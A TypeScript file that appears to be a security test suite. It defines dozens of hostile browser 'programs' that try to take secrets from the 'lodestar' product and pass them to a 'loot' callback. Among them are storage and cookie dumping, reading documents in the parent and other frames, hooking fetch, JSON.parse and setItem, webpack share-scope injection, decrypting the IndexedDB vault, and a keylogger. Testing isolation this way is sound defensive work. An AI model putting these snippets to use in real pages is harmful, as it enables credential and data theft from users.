import type { Programs } from './program.ts';

/** Programs that look for secrets in the browser storage of the page. */
export const STORES: Programs = {
  'reads localStorage': ({ loot }) => loot({ ...localStorage }),
  'reads sessionStorage': ({ loot }) => loot({ ...sessionStorage }),
  'reads cookies': ({ loot }) => loot(document.cookie),
  'reads cookies by the cookie store': async ({ loot }) => {
    const store: { getAll(): Promise<unknown> } = Reflect.get(globalThis, 'cookieStore');
    loot(await store.getAll());
  },
  'reads every database': async ({ loot }) => {
    for (const { name = '' } of await indexedDB.databases()) {
      const open = indexedDB.open(name);
      open.onsuccess = () => {
        for (const store of open.result.objectStoreNames) {
          const all = open.result.transaction(store).objectStore(store).getAll();
          all.onsuccess = () => loot(all.result);
        }
      };
    }
  },
  'reads every cache': async ({ loot }) => {
    for (const name of await caches.keys()) {
      const cache = await caches.open(name);
      for (const request of await cache.keys()) loot(await (await cache.match(request))?.text());
    }
  },
  'reads the private files': async ({ loot }) => {
    const folder = await navigator.storage.getDirectory();
    const file = await folder.getFileHandle('planted');
    loot(await (await file.getFile()).text());
  },
  'reads storage through the parent': ({ loot }) => loot({ ...parent.localStorage }),
  'reads storage through a frame of the same address': ({ add, loot }) =>
    loot({ ...add('iframe').contentWindow?.localStorage }),
  'keeps what is stored from now on': ({ loot }) => {
    const { setItem } = Storage.prototype;
    Storage.prototype.setItem = function (...item) {
      loot(item);
      return setItem.apply(this, item);
    };
  },
};

/** Programs that look for secrets in documents. */
export const DOCUMENTS: Programs = {
  'reads its document': ({ loot }) => loot(document.documentElement.outerHTML),
  'reads the document of its element': ({ container, loot }) =>
    loot((container.getRootNode() as Document).documentElement.outerHTML),
  'reads the document of the parent': ({ loot }) => loot(parent.document.documentElement.outerHTML),
  'reads the document at the top': ({ loot }) => loot(top?.document.documentElement.outerHTML),
  'reads the documents of other frames': ({ loot }) => {
    for (let at = 0; at < parent.length; at++) loot(parent[at]?.document.documentElement.outerHTML);
    loot(parent.document.body.innerText);
  },
  'reads a page of the product in a frame': ({ add, loot }) =>
    new Promise((resolve) => {
      const frame = add('iframe', { src: '/app' });
      frame.onload = () => resolve(loot({ ...frame.contentWindow?.localStorage }));
    }),
  'follows what the page changes': ({ loot }) => {
    new MutationObserver(() => loot(document.body.innerText)).observe(document, { subtree: true, childList: true });
    document.body.append(document.createElement('i'));
  },
  'finds what React holds': ({ loot }) => {
    const look = () => {
      const seen = new Set<unknown>();
      const texts: string[] = [];
      const queue: unknown[] = [];
      for (const element of document.querySelectorAll('*'))
        for (const key of Object.keys(element)) if (key.startsWith('__react')) queue.push(Reflect.get(element, key));
      // It grows meanwhile. Taking its first item away each time would move all others.
      for (const value of queue) {
        if (seen.size === 300_000) break;
        if (typeof value === 'string') texts.push(value);
        if (typeof value !== 'object' || value === null || value instanceof Node || seen.has(value)) continue;
        seen.add(value);
        queue.push(...Object.values(value));
      }
      loot(texts.join(' '));
    };
    // What the page shows may come after the form.
    setInterval(look, 2_000);
  },
};

/** Programs that look for secrets in the page's code and in the API. */
export const CODE: Programs = {
  'asks the API with the token of the phone': async ({ loot }) => {
    const authorization = `Bearer ${localStorage.getItem('access-token')}`;
    const response = await fetch('/api/events', { headers: { authorization } });
    loot(await response.text());
  },
  'asks the API by an older way with the token of the phone': ({ loot }) => {
    const request = new XMLHttpRequest();
    request.open('GET', '/api/events');
    request.setRequestHeader('authorization', `Bearer ${localStorage.getItem('access-token')}`);
    request.onload = () => loot(request.responseText);
    request.send();
  },
  'asks the host for the store through the share scope': ({ loot }) => {
    const chunks: unknown[] = Reflect.get(parent, 'webpackChunklodestar_shell');
    type Scope = Record<string, Record<string, { get(): () => Record<string, { getState?(): unknown }> }>>;
    const spy = ({ S }: { S: { default: Scope } }) => {
      for (const shared of Object.values(S.default['shared-ui'] ?? {})) loot(shared.get()().store?.getState?.());
    };
    chunks.push([['spy'], {}, spy]);
  },
  'listens to what the page asks the API': ({ loot }) => {
    const before = globalThis.fetch;
    globalThis.fetch = async (...asked) => {
      const answer = await before(...asked);
      loot(await answer.clone().text());
      return answer;
    };
  },
  'opens the vault with the key of the phone': ({ loot }) => {
    const open = indexedDB.open('lodestar-vault');
    open.onsuccess = () => {
      const store = (name: string) => open.result.transaction(name).objectStore(name).getAll();
      const keys = store('keys');
      keys.onsuccess = () => {
        const boxes = store('boxes');
        boxes.onsuccess = async () => {
          for (const { owner, name, iv, data } of boxes.result) {
            const { key } = keys.result.find((row) => row.owner === owner);
            const additionalData = new TextEncoder().encode(JSON.stringify([owner, name]));
            loot(
              new TextDecoder().decode(await crypto.subtle.decrypt({ name: 'AES-GCM', iv, additionalData }, key, data)),
            );
          }
        };
      };
    };
  },
  'listens to what the page reads': ({ loot }) => {
    const { parse } = JSON;
    JSON.parse = (text, revive) => {
      loot(text);
      return parse(text, revive);
    };
  },
  'listens to messages between tabs': ({ loot }) => {
    new BroadcastChannel('planted').onmessage = ({ data }) => loot(data);
  },
  'listens to the keys of the page': ({ loot }) => {
    let typed = '';
    (parent.document.body as EventTarget).addEventListener('keydown', (event) => {
      typed += (event as KeyboardEvent).key;
      loot(typed);
    });
  },
  'opens a window of the product': ({ loot }) => {
    const opened = window.open('/app');
    loot({ ...opened?.localStorage });
    opened?.close();
  },
};
